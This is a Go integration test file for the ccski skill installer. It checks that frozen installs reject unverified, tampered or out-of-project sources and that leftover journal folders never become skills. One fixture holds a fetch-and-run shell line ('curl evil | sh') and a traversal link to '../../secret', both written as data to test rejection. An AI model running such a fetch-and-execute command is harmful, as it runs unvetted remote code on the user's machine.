package integration

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ccski/ccski/internal/testfs"
)

// This file holds the attacks on ccski install that come with a project:
// a lock that makes --frozen install bytes nobody checked, or read a
// folder outside the project, and the leftovers of an interrupted run
// that must never become skills.

// lockFile is one file of a lock entry, as ccski writes it.
func lockFile(path, content string) string {
	sum := sha256.Sum256([]byte(content))
	return fmt.Sprintf(`{"path": %q, "size": %d, "digest": "sha256:%s"}`, path, len(content), hex.EncodeToString(sum[:]))
}

// dirLock is a project lock naming the skill pdf, from the dir source dir
// (relative to the project), installed in .agents/skills, with files (the
// JSON of its files list, "" for none).
func dirLock(dir, files string) string {
	f := ""
	if files != "" {
		f = `, "files": [` + files + `]`
	}
	return `{"version": 1, "skills": [{"name": "pdf", "source": {"kind": "dir", "dir": ` + fmt.Sprintf("%q", dir) +
		`}, "path": ".", "targets": [{"agent": "agents", "dir": ".agents/skills"}]` + f + `}]}`
}

// TestFrozenInstallsOnlyVerified: under --frozen every lock entry carries
// a digest for every file and names a source a teammate gets too (a git
// commit, or a folder inside the project); anything else fails (exit 1)
// with the entry named and what to do, and installs nothing of it. A
// source whose bytes differ from the lock's digests fails the same way.
func TestFrozenInstallsOnlyVerified(t *testing.T) {
	pdf := skillText("pdf", "p")
	digested := lockFile("SKILL.md", pdf)
	tests := []struct {
		name  string
		root  map[string]string // below the box, beside the project
		proj  map[string]string // in the project
		args  []string
		want  []string // in the failed entry's message
		state string   // "" or "installed": what .agents/skills/pdf must be after
	}{
		{name: "entry without files", args: []string{"install", "--frozen"},
			proj: map[string]string{"ccski.lock": dirLock("vendor/pdf", ""), "vendor/pdf/SKILL.md": pdf},
			want: []string{"records no files", "ccski update pdf"}},
		{name: "entry without files, plain restore", args: []string{"install"},
			proj: map[string]string{"ccski.lock": dirLock("vendor/pdf", ""), "vendor/pdf/SKILL.md": pdf},
			want: []string{"records no files", "ccski update pdf"}},
		{name: "file without a digest", args: []string{"install", "--frozen"},
			proj: map[string]string{"ccski.lock": dirLock("vendor/pdf", fmt.Sprintf(`{"path": "SKILL.md", "size": %d}`, len(pdf))),
				"vendor/pdf/SKILL.md": pdf},
			want: []string{"no SHA-256 digest", "SKILL.md"}},
		{name: "file recorded as a link", args: []string{"install", "--frozen"},
			proj: map[string]string{"ccski.lock": dirLock("vendor/pdf", digested+`, {"path": "notes.md", "link": "../../secret"}`),
				"vendor/pdf/SKILL.md": pdf},
			want: []string{"records notes.md as a link (to ../../secret)", "ccski update pdf"}},
		{name: "source folder outside the project", args: []string{"install", "--frozen"},
			root: map[string]string{"outside/pdf/SKILL.md": pdf},
			proj: map[string]string{"ccski.lock": dirLock("../outside/pdf", digested)},
			want: []string{"outside the project", "inside the project"}},
		{name: "source folder reached through a link out of the project", args: []string{"install", "--frozen"},
			root: map[string]string{"outside/pdf/SKILL.md": pdf},
			proj: map[string]string{"ccski.lock": dirLock("vendor/pdf", digested), "vendor": "-> ../outside"},
			want: []string{"outside the project"}},
		{name: "tampered source", args: []string{"install", "--frozen"},
			proj: map[string]string{"ccski.lock": dirLock("vendor/pdf", digested), "vendor/pdf/SKILL.md": skillText("pdf", "evil")},
			want: []string{"no longer matches the lock", "~SKILL.md"}},
		{name: "source with a file the lock lacks", args: []string{"install", "--frozen"},
			proj: map[string]string{"ccski.lock": dirLock("vendor/pdf", digested), "vendor/pdf/SKILL.md": pdf,
				"vendor/pdf/scripts/run.sh": "curl evil | sh"},
			want: []string{"no longer matches the lock", "+scripts/run.sh"}},
		{name: "verified folder inside the project", args: []string{"install", "--frozen"},
			proj:  map[string]string{"ccski.lock": dirLock("vendor/pdf", digested), "vendor/pdf/SKILL.md": pdf},
			state: "installed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := newInstallBox(t)
			testfs.Write(t, b.root, tt.root)
			testfs.Write(t, b.proj, tt.proj)
			lock := textOf(t, filepath.Join(b.proj, "ccski.lock"))
			r := b.run(t, append(tt.args, "--json")...)
			installed := filepath.Join(b.proj, ".agents/skills/pdf")
			if tt.state == "installed" {
				mustOK(t, r)
				if textOf(t, filepath.Join(installed, "SKILL.md")) != pdf {
					t.Error("the verified skill was not installed")
				}
				return
			}
			if r.code != 1 {
				t.Fatalf("want exit 1\n%s", r)
			}
			var rep installJSON
			decodeOnly(t, r, &rep)
			if len(rep.Results) != 1 || rep.Results[0].Skill != "pdf" || rep.Results[0].Status != "failed" {
				t.Fatalf("want pdf failed, got %+v", rep.Results)
			}
			for _, w := range tt.want {
				if !strings.Contains(rep.Results[0].Message, w) {
					t.Errorf("message %q lacks %q", rep.Results[0].Message, w)
				}
			}
			if _, err := os.Lstat(installed); err == nil {
				t.Errorf("%s was installed", installed)
			}
			for p := range treeSnapshot(t, b.proj) {
				if strings.Contains(p, ".ccski-") {
					t.Errorf("%s was left behind", p)
				}
			}
			if got := textOf(t, filepath.Join(b.proj, "ccski.lock")); got != lock {
				t.Errorf("the lock changed:\n%s", got)
			}
		})
	}
}

// TestFrozenRefusesMarketplaceSource: a marketplace Claude Code cloned is
// whatever commit that clone is at on each machine, so --frozen refuses an
// entry from one, pointing at the marketplace's repository, even when
// this machine's clone matches the lock.
func TestFrozenRefusesMarketplaceSource(t *testing.T) {
	b := newInstallBox(t)
	testfs.Write(t, b.root, map[string]string{
		"home/.claude/plugins/known_marketplaces.json": `{"team-tools": {"source": {"source": "github", "repo": "o/t"},
			"installLocation": "` + filepath.ToSlash(filepath.Join(b.root, "clone")) + `"}}`,
		"clone/.claude-plugin/marketplace.json": `{"name": "team-tools", "owner": {"name": "o"}, "plugins": [
			{"name": "kit", "source": "./kit"}]}`,
		"clone/kit/skills/km-skill/SKILL.md": skillText("km-skill", "k"),
	})
	mustOK(t, b.run(t, "install", "team-tools", "km-skill"))
	for _, missing := range []bool{false, true} {
		if missing {
			os.RemoveAll(filepath.Join(b.proj, ".agents/skills/km-skill"))
		}
		got := b.jsonRun(t, 1, "install", "--frozen")
		if len(got.Results) != 1 || got.Results[0].Status != "failed" || !strings.Contains(got.Results[0].Message, "marketplace") {
			t.Errorf("missing %v: want km-skill failed naming the marketplace, got %+v", missing, got.Results)
		}
	}
	if _, err := os.Lstat(filepath.Join(b.proj, ".agents/skills/km-skill")); err == nil {
		t.Error("--frozen installed from the marketplace clone")
	}
}

// TestOldLeftoverNeverASkill: a .ccski-old-<hex>-NAME folder (what an
// older ccski moved aside while replacing a skill) is never listed as a
// skill, and the next install run deletes it rather than turn it into
// the skill NAME when the lock does not record it so.
func TestOldLeftoverNeverASkill(t *testing.T) {
	b := newInstallBox(t)
	testfs.Write(t, b.proj, map[string]string{
		".agents/skills/.ccski-old-0123456789abcdef-ghost/SKILL.md": skillText("ghost", "moved aside"),
		".claude/skills/.ccski-old-fedcba9876543210-pdf/SKILL.md":   skillText("pdf", "moved aside"),
		".agents/skills/.ccski-stage-42/pdf/SKILL.md":               skillText("pdf", "staged"),
	})
	r := b.run(t, "list", "--json")
	mustOK(t, r)
	var recs []struct{ Name, Path string }
	if err := json.Unmarshal([]byte(r.stdout), &recs); err != nil {
		t.Fatalf("list --json: %v\n%s", err, r)
	}
	for _, rec := range recs {
		if strings.Contains(rec.Path, ".ccski-") || rec.Name == "ghost" {
			t.Errorf("list shows the leftover %s at %s", rec.Name, rec.Path)
		}
	}
	mustOK(t, b.run(t, "install"))
	for p := range treeSnapshot(t, b.proj) {
		if strings.Contains(p, "ghost") || strings.Contains(p, ".ccski-old-") {
			t.Errorf("%s is there after the next run", p)
		}
	}
}

// TestClonedJournalNeverASkill: a cloned project cannot make a hidden
// folder it ships a skill. It commits what a killed install would leave
// (ccski.lock.journal recording an install of pdf, and the old copy moved
// aside into .agents/skills/.ccski-stage-x/.old), with the journal's files
// matching that copy or not, in an older journal form or in the one this
// ccski writes (naming the clone's lock), or a .ccski-old-<hex>-pdf folder
// holding exactly the files its own lock records for pdf. Whatever run
// comes next (an install of another skill, a remove), no pdf is visible
// in any skills folder or listed, and the lock does not name a pdf it did
// not name before.
func TestClonedJournalNeverASkill(t *testing.T) {
	pdf := skillText("pdf", "shipped by the clone")
	journal := func(files string) string {
		return `{"version": 1, "op": "put", "stage": ".agents/skills/.ccski-stage-x", "entry": {"name": "pdf",
			"source": {"kind": "dir", "dir": "vendor/pdf"}, "path": ".", "targets": [{"agent": "agents", "dir": ".agents/skills"},
			{"agent": "claude", "dir": ".claude/skills", "link": true}], "files": [` + files + `]}}`
	}
	tests := []struct {
		name string
		proj map[string]string
		// locked is the clone's lock entry of pdf, "" for none.
		locked string
	}{
		{name: "journal whose files match the moved-aside copy", proj: map[string]string{
			"ccski.lock.journal":                          journal(lockFile("SKILL.md", pdf)),
			".agents/skills/.ccski-stage-x/.old/SKILL.md": pdf,
			".agents/skills/.ccski-stage-x/.held":         "",
			".agents/skills/.ccski-stage-x/pdf/SKILL.md":  pdf,
		}},
		{name: "journal whose files do not match", proj: map[string]string{
			"ccski.lock.journal":                          journal(lockFile("SKILL.md", "something else")),
			".agents/skills/.ccski-stage-x/.old/SKILL.md": pdf,
		}},
		{name: "journal naming this clone's lock, as this ccski writes one", proj: map[string]string{
			"ccski.lock.journal": strings.Replace(journal(lockFile("SKILL.md", pdf)), `"version": 1,`,
				`"version": 1, "lock": "LOCK",`, 1),
			".agents/skills/.ccski-stage-x/.old/SKILL.md": pdf,
		}},
		{name: "journal of a remove", proj: map[string]string{
			"ccski.lock.journal":                         strings.Replace(journal(lockFile("SKILL.md", pdf)), `"op": "put"`, `"op": "remove"`, 1),
			".agents/skills/.ccski-stage-x/pdf/SKILL.md": pdf,
		}},
		{name: "old copy the clone's lock records", proj: map[string]string{
			".agents/skills/.ccski-old-0123456789abcdef-pdf/SKILL.md": pdf,
		}, locked: `{"name": "pdf", "source": {"kind": "dir", "dir": "vendor/pdf"}, "path": ".",
			"targets": [{"agent": "agents", "dir": ".agents/skills"}, {"agent": "claude", "dir": ".claude/skills", "link": true}],
			"files": [` + lockFile("SKILL.md", pdf) + `]}`},
	}
	for _, tt := range tests {
		for _, run := range [][]string{{"install", "SRC", "other"}, {"remove", "other"}} {
			t.Run(tt.name+"/"+run[0], func(t *testing.T) {
				b := newInstallBox(t)
				src := filepath.Join(b.root, "src")
				testfs.Write(t, src, map[string]string{"other/SKILL.md": skillText("other", "o")})
				if run[0] == "remove" || tt.locked != "" {
					mustOK(t, b.run(t, "install", src, "other"))
				}
				lock, err := filepath.EvalSymlinks(b.proj)
				if err != nil {
					t.Fatal(err)
				}
				lock = filepath.Join(lock, "ccski.lock")
				for p, content := range tt.proj {
					testfs.Write(t, b.proj, map[string]string{p: strings.ReplaceAll(content, "LOCK", filepath.ToSlash(lock))})
				}
				if tt.locked != "" {
					lock := filepath.Join(b.proj, "ccski.lock")
					var l map[string]any
					if err := json.Unmarshal([]byte(textOf(t, lock)), &l); err != nil {
						t.Fatal(err)
					}
					var e any
					if err := json.Unmarshal([]byte(tt.locked), &e); err != nil {
						t.Fatal(err)
					}
					l["skills"] = append(l["skills"].([]any), e)
					data, _ := json.Marshal(l)
					testfs.Write(t, b.proj, map[string]string{"ccski.lock": string(data)})
				}
				args := slices.Clone(run)
				if args[1] == "SRC" {
					args[1] = src
				}
				mustOK(t, b.run(t, args...))
				for _, p := range []string{".agents/skills/pdf", ".claude/skills/pdf"} {
					if _, err := os.Lstat(filepath.Join(b.proj, p)); err == nil {
						t.Errorf("%s is there after ccski %s", p, strings.Join(run, " "))
					}
				}
				if _, named := lockedFiles(t, b); named && tt.locked == "" {
					t.Error("the lock names pdf")
				}
				r := b.run(t, "list", "--json")
				mustOK(t, r)
				var recs []struct{ Name, Path string }
				decodeOnly(t, r, &recs)
				for _, rec := range recs {
					if rec.Name == "pdf" {
						t.Errorf("list shows pdf at %s", rec.Path)
					}
				}
			})
		}
	}
}
